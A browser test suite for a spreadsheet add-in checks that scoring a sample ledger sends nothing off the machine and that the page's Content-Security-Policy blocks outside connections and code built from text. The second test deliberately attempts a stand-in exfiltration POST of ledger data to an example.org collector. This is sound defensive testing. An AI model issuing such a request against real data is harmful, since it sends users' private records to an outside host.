import { describeInBrowser, functionsReady, openPreview } from '../support/preview-page';
import { click, openLedger, toPreview, writeSheet } from '../support/pane-journey';

const SECRET = 'Zanzibar Secret Trading';

const CSV = [
  'Customer,Invoice No.,Invoice Date,Due Date,Amount,Paid Date',
  `${SECRET},S-1,2026-01-05,2026-02-04,1234.56,2026-02-20`,
  `${SECRET},S-2,2026-04-05,2026-05-05,9876.54,`,
].join('\r\n');

describeInBrowser('what leaves the machine during a run', () => {
  jest.setTimeout(120_000);

  test('is nothing: every request goes to the add-in’s own address and carries nothing', async () => {
    const preview = await openPreview(undefined, true);
    const requests: { method: string; url: string; body: string | null }[] = [];
    preview.page.context().on('request', (request) => {
      requests.push({ method: request.method(), url: request.url(), body: request.postData() });
    });
    await preview.page.reload();
    await preview.page.waitForFunction(() => window.previewHost !== undefined);
    await functionsReady(preview);
    await openLedger(preview, 'ledger.csv', Buffer.from(CSV));
    await toPreview(preview, 'Score customers', 'Score customers', '2026-06-30');
    const written = await writeSheet(preview);
    expect(JSON.stringify(written)).toContain(SECRET);
    await click(preview, 'Undo');
    await preview.pane
      .getByText(/was deleted|Undone|taken back/i)
      .first()
      .waitFor();

    expect(requests.length).toBeGreaterThan(5);
    expect(
      requests.filter(({ url }) => !/^(?:data|blob):/.test(url) && new URL(url).origin !== preview.origin),
    ).toEqual([]);
    expect(requests.filter(({ method, body }) => method !== 'GET' || body !== null)).toEqual([]);
    expect(requests.filter(({ url }) => /Zanzibar|9876/.test(decodeURIComponent(url)))).toEqual([]);
    expect(preview.complaints).toEqual([]);
    await preview.close();
  });

  test('could be nothing else: the page itself forbids other addresses and code made from text', async () => {
    const preview = await openPreview(undefined, true);
    await functionsReady(preview);
    const frame = preview.page.frames().find((one) => one.url().includes('taskpane.html'));
    const tried = await frame?.evaluate(async () => {
      const policy = document.querySelector('meta[http-equiv="Content-Security-Policy"]');
      const sent = await fetch('https://example.org/collect', { method: 'POST', body: 'ledger' }).then(
        () => 'sent',
        () => 'refused',
      );
      // A debugger's own script may make code; what the page does later in a task of its own may not.
      const made = await new Promise<string>((resolve) => {
        setTimeout(() => {
          try {
            Reflect.construct(Function, ['return 1']);
            resolve('made');
          } catch {
            resolve('refused');
          }
        }, 0);
      });
      return { policy: policy?.getAttribute('content') ?? '', sent, made };
    });
    expect(tried?.sent).toBe('refused');
    expect(tried?.made).toBe('refused');
    expect(tried?.policy).toContain("connect-src 'self';");
    expect(tried?.policy).not.toContain('unsafe-eval');
    await preview.close();
  });
});
